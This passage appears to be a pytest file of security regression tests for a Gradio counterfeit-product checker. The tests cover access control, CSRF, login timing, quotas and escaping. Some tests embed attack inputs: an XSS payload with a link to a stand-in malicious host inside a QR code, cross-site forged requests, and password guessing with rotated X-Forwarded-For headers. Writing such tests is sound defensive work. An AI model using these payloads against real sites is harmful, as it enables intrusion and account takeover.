    import httpx

    if url not in _CONFIGS:
        _CONFIGS[url] = httpx.get(url + "config", timeout=30).json()
    return next(c for c in _CONFIGS[url]["components"] if c.get("props", {}).get("elem_id") == elem_id)


def _triggered_by(url: str, elem_id: str, trigger: str = "click") -> dict:
    """The event a component (by its elem_id) starts."""
    component = _component(url, elem_id)["id"]
    return next(d for d in _CONFIGS[url]["dependencies"] if [component, trigger] in d["targets"])


def test_the_audit_log_needs_a_login(running_app):
    """Before: page_data and audit_table served the audit log (user names, review notes) to every visitor."""
    url, _ = running_app
    outputs = event(url, "page_data", ["", "en"])
    audit = outputs[5]
    assert audit["data"] == [["Log in (top of the page) to see the audit log: it holds user names and review notes."]]
    assert event(url, _triggered_by(url, "audit-refresh"), ["vi"])[0]["data"][0][0].startswith("Đăng nhập")
    initial = _component(url, "audit-table")["props"]["value"]  # what the page is built with
    assert initial["data"] == audit["data"]
    logged_in = event(url, "page_data", ["", "en"], cookies=login(url))[5]
    assert logged_in["headers"][0] == "#"


def test_gradio_deep_links_are_closed(running_app):
    """Before: /gradio_api/deep_link?session_hash=… saved that session's rendered page (the
    admin's History) where /file=…/deep_links/<hash>/state.json and /?deep_link= served it to
    anyone, without the cookie."""
    import httpx

    url, _ = running_app
    event(url, "status_text", ["en"])  # a session that exists
    with httpx.Client(base_url=url, timeout=30) as client:
        for path in ("gradio_api/deep_link?session_hash=abc", "gradio_api/deep_link/?session_hash=abc",
                     "?deep_link=0123456789abcdef", "config?deep_link=0123456789abcdef",
                     "gradio_api/file=/tmp/gradio/deep_links/x/state.json"):
            assert client.get(path).status_code == 404, path
        assert client.get("/").status_code == 200


def test_changes_from_another_site_or_port_are_refused(running_app):
    """Before: a page on another local port (same-site, so the SameSite=Strict cookie went along)
    renamed a product; /session/login took text/plain bodies (a form or a beacon needs no preflight)."""
    import httpx

    url, catalog = running_app
    cookies = login(url)
    save = _triggered_by(url, "save-product")
    body = {"fn_index": save["id"], "data": ["Oatly-Oat-Milk", "Renamed by another site", "", "", "", "en"],
            "session_hash": "csrf", "event_data": None, "trigger_id": None}
    with httpx.Client(base_url=url, cookies=cookies, timeout=30) as client:
        for headers in ({"Origin": "http://127.0.0.1:8000"}, {"Origin": "null"},
                        {"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "cross-site"}):
            response = client.post("gradio_api/queue/join", json=body, headers=headers)
            assert response.status_code == 403, (headers, response.status_code)
        login_as_text = client.post("session/login", content=json.dumps({"name": "x", "password": "y"}),
                                    headers={"Content-Type": "text/plain"})
        assert login_as_text.status_code == 415
        own = client.post("session/logout", headers={"Origin": url.rstrip("/"), "Sec-Fetch-Site": "same-origin"})
        assert own.status_code == 200  # the app's own page is not refused
    from index import Catalog

    with Catalog.open(catalog) as opened:
        assert opened.references(product_id="Oatly-Oat-Milk")[0].name != "Renamed by another site"


def test_a_case_file_check_says_when_its_check_was_overturned_and_by_which_review(running_app):
    """Before: a case file whose check was overturned in review still checked ✔ with no word of it."""
    from gradio_client import Client, handle_file

    from index.storing.history import History

    url, catalog = running_app
    client = Client(url, verbose=False)
    verdict, *_, report_html, report_json, raw = client.predict(  # a place typed to look like the check's time
        [handle_file(str(demo_photo("Oatly-Oat-Milk_002.jpg")))], "Oatly-Oat-Milk", "", "", "en", "",
        "stall 4 · UTC 2020-01-01T00:00:00Z", api_name="/verify")
    check_id = verdict["check_id"]
    history = History(catalog)
    try:
        kept = history.db.execute("SELECT client, kept_bytes FROM checks WHERE check_id = ?", (check_id,)).fetchone()
        assert kept[0] == "127.0.0.1" and kept[1] > 0  # no login: counted against the anonymous quotas
        overturn = "counterfeit" if verdict["verdict"] != "counterfeit" else "genuine"
        history.review(check_id, overturn, "seized: wrong batch font", "inspector-admin")
        entry = history.review_entry(check_id)
    finally:
        history.close()
    for path in (Path(report_html), Path(report_json)):
        said = event(url, "check_report", [upload(url, path), "en"])[0]
        assert "issued by this system" in said and f"Check #{check_id} was later OVERTURNED" in said
        assert f"review #{entry} in the audit log" in said and "inspector-admin" not in said
        assert "Log in (top of the page) to see who reviewed it" in said
    said = event(url, "check_report", [upload(url, Path(report_json)), "vi"], cookies=login(url))[0]
    assert "BÁC BỎ" in said and "inspector-admin" in said and "seized: wrong batch font" in said


def test_anonymous_photos_are_kept_within_a_quota_per_client_and_in_total(catalog_copy, offline_embedder, tmp_path):
    """Before: History kept up to ~3.5 MB a photo for 365 days from anyone: 12 noise photos kept 42 MB."""
    import numpy as np

    from index import Catalog, Verifier
    from ui.auth import Users
    from ui.limits import Limits
    from ui.service import Service

    service = Service(Verifier(Catalog.open(catalog_copy), offline_embedder), Users({}), work_dir=tmp_path / "work",
                      limits=Limits(anonymous_client_mb=6, anonymous_total_mb=8))
    rng = np.random.default_rng(0)
    photos = []
    for i in range(6):
        path = tmp_path / f"noise-{i}.png"
        Image.fromarray(rng.integers(0, 256, (1600, 1600, 3), dtype=np.uint8)).save(path)
        photos.append(str(path))
    result = {"verdict": "unknown", "errors": []}
    exists = lambda record: Path(record.photos[0].path).exists()  # noqa: E731
    try:
        mine = [service._keep(dict(result), [p], "", "", client="198.51.100.7") for p in photos[:4]]
        size = Path(mine[-1].photos[0].path).stat().st_size
        assert 2.05 * 1024**2 < size < 2.6 * 1024**2  # a noise photo kept at 1,600 px: ~2.3 MB
        # this client's quota (6 MB): its two oldest photos went, the two newest stay
        assert [exists(r) for r in mine] == [False, False, True, True]
        assert service.history.anonymous_bytes("198.51.100.7") <= 6 * 1024**2
        user = service._keep(dict(result), [photos[2]], "", "")  # a logged-in user's check of the same photo
        others = [service._keep(dict(result), [p], "", "", client="203.0.113.5") for p in photos[4:]]
        # the quota of all anonymous clients (8 MB): the oldest anonymous photo went, whoever's it was;
        # its file stays where a user's check holds it too
        assert service.history.anonymous_bytes() <= 8 * 1024**2
        assert service.history.db.execute("SELECT kept_bytes FROM checks WHERE check_id = ?",
                                          (mine[2].check_id,)).fetchone()[0] == 0
        assert exists(user) and exists(mine[3]) and all(exists(r) for r in others)
        assert service.history.get(mine[0].check_id) is not None  # the check stays, its photo went
    finally:
        service.catalog.close()
        service.history.close()


def test_barcode_text_is_shown_escaped_and_cut_short(running_app, tmp_path):
    """Before: a QR code's text went into a Markdown note: a counterfeiter's code became a link or
    a tracking image on the inspector's page."""
    import segno

    url, _ = running_app
    payload = "<img src=x onerror=alert(1)>[x](http://e.vil/)" + "A" * 200
    code = tmp_path / "qr.png"
    segno.make(payload, error="l").save(str(code), scale=6, border=6)
    photo = tmp_path / "package.png"
    canvas = Image.new("RGB", (900, 900), "white")
    canvas.paste(Image.open(code).convert("RGB"), (100, 100))
    canvas.save(photo)
    assert _component(url, "scan-note")["type"] == "html"  # shown as text in an HTML box, not as Markdown
    _, note = event(url, "scan_photos", [[upload(url, photo)], None, "en"])
    assert "<img" not in note and "[x](http://e.vil/)" in note and "&lt;img src=x onerror=alert(1)&gt;" in note
    shown = note.split("Barcode ", 1)[1].split(" read;", 1)[0]
    assert shown.endswith("…") and len(shown) <= 65 + len("&lt;&gt;") * 5


def test_text_decoded_from_codes_is_capped(tmp_path):
    """Before: 16 large QR codes gave 29 KB of text a photo, kept with every check."""
    import io

    import segno

    from vision.codes import read_codes

    canvas = Image.new("L", (2048, 2048), 255)
    for i in range(16):
        buffer = io.BytesIO()
        segno.make(f"{i:02d}" + "x" * 1500, error="l").save(buffer, kind="png", scale=3, border=4)
        canvas.paste(Image.open(buffer).convert("L").resize((500, 500)), ((i % 4) * 512, (i // 4) * 512))
    codes = read_codes(canvas)
    assert 1 <= len(codes) <= 8 and all(len(c.text) <= 256 for c in codes)  # at most 2 KB a photo


def test_reading_text_on_a_photo_has_a_time_bound():
    """Before: one 2,048 x 2,048 photo of full-width lines of small print took RapidOCR 40-47 s,
    with no limit: its 32 lines, 76 times as wide as high, went to the recogniser at once (the
    recogniser's time grows faster than a line's width). What the recogniser is given is measured
    here (padded width, as the engine pads a batch to its widest line), not the time: the same on
    a busy machine as on an idle one."""
    from PIL import ImageDraw, ImageFont

    from vision.text import TextReader

    image = Image.new("RGB", (2048, 2048), "white")
    draw = ImageDraw.Draw(image)
    font = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSans-Bold.ttf", 14)  # fonts-dejavu-core
    for y in range(0, 2048, 20):
        draw.text((2, y), f"WIDE LINE OF SMALL PRINT {y} " * 40, fill="black", font=font)
    reader = TextReader()
    engine = reader._load()
    given = []

    class Counted:  # the recogniser, counting what it is given
        def __init__(self, recogniser):
            self.recogniser, self.rec_batch_num = recogniser, recogniser.rec_batch_num
            self.rec_image_shape = recogniser.rec_image_shape

        def __call__(self, crops, *args, **kwargs):
            given.append((len(crops), max(c.shape[1] / c.shape[0] for c in crops)))
            return self.recogniser(crops, *args, **kwargs)

    engine.text_rec = Counted(engine.text_rec)
    lines = reader.read(Image.open(demo_photo("Oatly-Oat-Milk_002.jpg")))
    assert lines and sum(n * max(ratio, 320 / 48) for n, ratio in given) < 200  # a package photo: as before
    given.clear()
    reader.read(image)  # what is read of such a photo within the bound is kept
    assert max(ratio for _, ratio in given) <= 24 and max(n for n, _ in given) <= 6  # pieces, in small batches
    assert sum(n * max(ratio, 320 / 48) for n, ratio in given) <= 500  # before: 32 lines of 76 at once, ~2,400


def test_scanning_barcodes_does_not_hold_the_checker(service, monkeypatch):
    """Before: scan_photos (browsing, no queue) held the checker's lock while it read: four scans of
    12 photos of 49 MP made another user's one-photo check go from 0.6 s to 70 s."""
    import vision.codes

    release = threading.Event()
    reading = threading.Event()

    def slow_read(image):  # photos that take long to read: until the check below is done
        reading.set()
        release.wait(30)
        return ()

    monkeypatch.setattr(vision.codes, "read_codes", slow_read)
    photo = str(demo_photo("Oatly-Oat-Milk_001.jpg"))
    done = {}

    def scan():
        service.scan_codes([photo] * 4)
        done["scan"] = time.monotonic()

    worker = threading.Thread(target=scan)
    worker.start()
    try:
        assert reading.wait(30)
        service.check([str(demo_photo("Oatly-Oat-Milk_002.jpg"))])  # while the scan reads
        done["check"] = time.monotonic()
    finally:
        release.set()
        worker.join(60)
    assert done["check"] < done["scan"]  # the check did not wait for the scan


def test_logins_cost_the_same_for_known_and_unknown_names(tmp_path):
    """Before: a wrong password took 100 ms for a name that exists and 3 ms for one that does not."""
    from ui.auth import Users, hash_password
    from ui.sessions import LoginRefused, Sessions

    users_file = tmp_path / "users.txt"
    users_file.write_text(f"lan:{hash_password('mật khẩu')}\nminh:{hash_password('mật khẩu 2')}\n", encoding="utf-8")
    sessions = Sessions(Users({"VERIFIER_USERS_FILE": str(users_file)}))

    def cost(name, address):
        started = time.perf_counter()
        with pytest.raises(LoginRefused):
            sessions.login(name, "wrong", address)
        return time.perf_counter() - started

    known, unknown = [], []
    for i, (name, other) in enumerate([("lan", "lân"), ("minh", "nobody"), ("lan", "admin"), ("minh", ""),
                                       ("lan", "root")]):  # side by side: the machine's load weighs on both
        known.append(cost(name, f"10.0.0.{i}"))
        unknown.append(cost(other, f"10.0.1.{i}"))
    ratio = min(known) / min(unknown)  # the least each took: what the check costs, without the noise
    assert 0.5 < ratio < 2.0, (known, unknown)


def test_password_checks_run_off_the_event_loop(service, monkeypatch):
    """Before: PBKDF2 ran on the event loop: 8 clients logging in raised every other request from
    4 ms to 672 ms. Here each password check takes 0.6 s (as a loaded machine's PBKDF2 would,
    holding its thread), on the app's login routes served by uvicorn; a request made meanwhile
    must not wait for them."""
    import concurrent.futures

    import httpx
    import uvicorn

    from app import web_app
    from conftest import _free_port
    from ui.sessions import LoginRefused

    def slow_login(name, password, address):
        time.sleep(0.6)
        raise LoginRefused("login_failed")

    monkeypatch.setattr(service.sessions, "login", slow_login)
    port = _free_port()
    server = uvicorn.Server(uvicorn.Config(web_app(service), host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{port}/session/"
    try:
        deadline = time.monotonic() + 30
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.05)
        with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
            logins = [pool.submit(httpx.post, url + "login", json={"name": "owner", "password": "x"}, timeout=30)
                      for _ in range(4)]
            time.sleep(0.2)  # the password checks under way
            started = time.monotonic()
            httpx.post(url + "logout", timeout=30)  # no password to check
            waited = time.monotonic() - started
            codes = [f.result().status_code for f in logins]
    finally:
        server.should_exit = True
        thread.join(10)
    assert codes == [401] * 4 and waited < 0.3, waited


def test_product_fields_have_size_limits(service):
    """Before: a 5 MB label text and a 2 MB name were accepted, and every page load became 17-18 MB."""
    from ui.i18n import t

    token = service.sessions.login("owner", "s3cret", "127.0.0.1")
    user = service.sessions.user(token)
    for fields in ({"label_text": "x" * 5_000_000}, {"name": "n" * 2_000_000}, {"brand": "b" * 300},
                   {"gtins": " ".join(["5000112637922"] * 100)}):
        with pytest.raises(ValueError, match="at most"):  # index.storing.editing.FieldTooLong
            service.edit_product(user, "Oatly-Oat-Milk", **fields)
    with pytest.raises(ValueError, match="at most"):
        service.add_references(user, [str(demo_photo("Oatly-Oat-Milk_001.jpg"))], "Oatly-Oat-Milk",
                               name="n" * 2_000_000)
    details = service.product_details("Oatly-Oat-Milk")
    assert len(details["name"]) < 200 and len(details["label_text"]) < 4000  # nothing was saved
    assert "at most 4000" in t("product_field_too_long", "en", field="label text", length=5_000_000, limit=4000)
    assert "tối đa 4000" in t("product_field_too_long", "vi", field="chữ trên bao bì", length=5_000_000, limit=4000)


def test_one_background_tuning_per_catalog_with_a_rerun_queued(catalog_copy, monkeypatch):
    """Before: every logged-in add or removal started another tuning process (4 adds, 4 processes
    of ~1 GB each)."""
    import os
    import sys

    import index.importing.tuning as tuning

    monkeypatch.setenv("VERIFIER_AUTO_TUNE", "1")
    started = []

    def start(catalog_dir):  # a stand-in for the tuning process (same name on its command line)
        process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "tune_catalog"])
        started.append(process)
        return process

    monkeypatch.setattr(tuning, "start_background_tuning", start)
    try:
        reasons = [tuning.tune_in_background_if_due(catalog_copy) for _ in range(4)]
        assert all(reasons) and len(started) == 1  # one process; the other three asked it to go again
        assert (catalog_copy / tuning.RERUN_NAME).exists()
    finally:
        for process in started:
            process.kill()
            process.wait()
    # the background process's side: tune, then again for the changes made meanwhile, then leave
    runs = []

    def fake_tune(catalog_dir, recipe, only_if_due=False, **kwargs):
        runs.append(only_if_due)
        if len(runs) == 1:  # a change arrives while the first tuning runs
            assert tuning.request_background_tuning(catalog_dir) == "queued"
        return None

    monkeypatch.setattr(tuning, "tune", fake_tune)
    (catalog_copy / tuning.PID_NAME).write_text(str(os.getpid()))
    monkeypatch.setattr(tuning, "_background_pid", lambda folder: os.getpid())
    tuning.tune_while_requested(catalog_copy, tuning.Recipe())
    assert runs == [True, True] and not (catalog_copy / tuning.PID_NAME).exists()


def test_a_zip_whose_entries_clash_gets_a_sentence_without_paths_or_traceback(running_app, tmp_path):
    """Before: a zip holding a.jpg and a.jpg/b.jpg showed a raw "[Errno 17]" with the server's
    temporary path, and a traceback went to the log."""
    import zipfile

    from gradio_client import Client, handle_file

    url, catalog = running_app
    bundle = tmp_path / "clash.zip"
    photo = demo_photo("Oatly-Oat-Milk_001.jpg").read_bytes()
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr("a.jpg", photo)
        archive.writestr("a.jpg/b.jpg", photo)
    log = catalog.parent / "app.log"
    logged = log.stat().st_size
    with pytest.raises(Exception) as caught:
        Client(url, verbose=False).predict(None, [handle_file(str(bundle))], "en", api_name="/batch")
    message = str(caught.value)
    assert "clash.zip: cannot extract a.jpg/b.jpg: a file and a folder in it have the same name" in message
    assert "Errno" not in message and "/tmp" not in message
    time.sleep(0.5)
    with open(log, encoding="utf-8", errors="replace") as handle:
        handle.seek(logged)
        assert "Traceback" not in handle.read()


def test_a_client_rotating_x_forwarded_for_is_locked_out_all_the_same(strict_app):
    """Before: uvicorn believed X-Forwarded-For from loopback: 200 guesses in 14.5 s with no lockout,
    and a client could lock out an address of its choosing. (Last of strict_app's tests: it leaves
    loopback locked out of logging in for a minute.)"""
    import httpx

    from ui.auth import MAX_FAILURES

    url, _ = strict_app
    outcomes = []
    with httpx.Client(base_url=url, timeout=30) as client:
        for i in range(MAX_FAILURES + 2):
            response = client.post("session/login", json={"name": "inspector-admin", "password": f"guess {i}"},
                                   headers={"X-Forwarded-For": f"198.51.100.{i + 1}"})
            outcomes.append(response.json()["outcome"])
    assert outcomes[:MAX_FAILURES] == ["login_failed"] * MAX_FAILURES
    assert outcomes[MAX_FAILURES:] == ["login_locked"] * 2
